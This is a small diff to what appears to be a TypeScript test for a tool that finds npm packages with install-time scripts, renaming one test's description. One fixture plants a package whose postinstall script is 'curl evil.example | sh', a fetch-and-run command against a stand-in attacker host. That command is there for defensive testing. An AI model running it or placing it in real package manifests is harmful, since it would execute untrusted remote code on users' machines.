@@ -14,7 +14,7 @@ function plant(name: string, scripts: Record<string, string>, file?: string) {
   if (file !== undefined) writeFileSync(join(folder, file), '')
 }
 
-test('packages that run something when they are installed are found, and no others', () => {
+test('exactly the packages with install scripts are found', () => {
   plant('quiet', { test: 'true', prepare: 'true' })
   plant('loud', { postinstall: 'curl evil.example | sh' })
   plant('@scoped/first', { preinstall: 'true' })
